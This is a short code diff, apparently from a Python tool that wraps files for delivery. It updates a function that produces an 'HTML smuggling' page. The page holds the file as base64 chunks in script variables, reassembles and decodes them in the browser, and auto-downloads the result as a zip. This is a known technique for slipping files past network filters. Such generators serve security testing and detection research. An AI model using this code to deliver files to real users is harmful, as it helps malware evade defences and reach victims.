@@ -219,9 +219,11 @@ def form_with_pdf(name: str, content: bytes) -> bytes:
     )
 
 
-def page_in_pieces(_name: str, content: bytes) -> bytes:
-    digits = base64.b64encode(content).decode()
+def page_in_pieces(name: str, content: bytes) -> bytes:
+    """HTML smuggling: the script puts the file together from pieces before it decodes and saves it."""
+    digits = base64.b64encode(archive_formats.zipped(name, content)).decode()
     pieces = [digits[at : at + 40] for at in range(0, len(digits), 40)]
     names = "".join(f"var p{number} = '{piece}';" for number, piece in enumerate(pieces))
     total = "+".join(f"p{number}" for number in range(len(pieces)))
-    return f"<html><script>{names} save(new Blob([atob({total})]))</script></html>".encode()
+    save = "a.href = URL.createObjectURL(new Blob([u])); a.download = 'a.zip'; a.click()"
+    return f"<html><script>{names} var u = atob({total}); {save}</script></html>".encode()
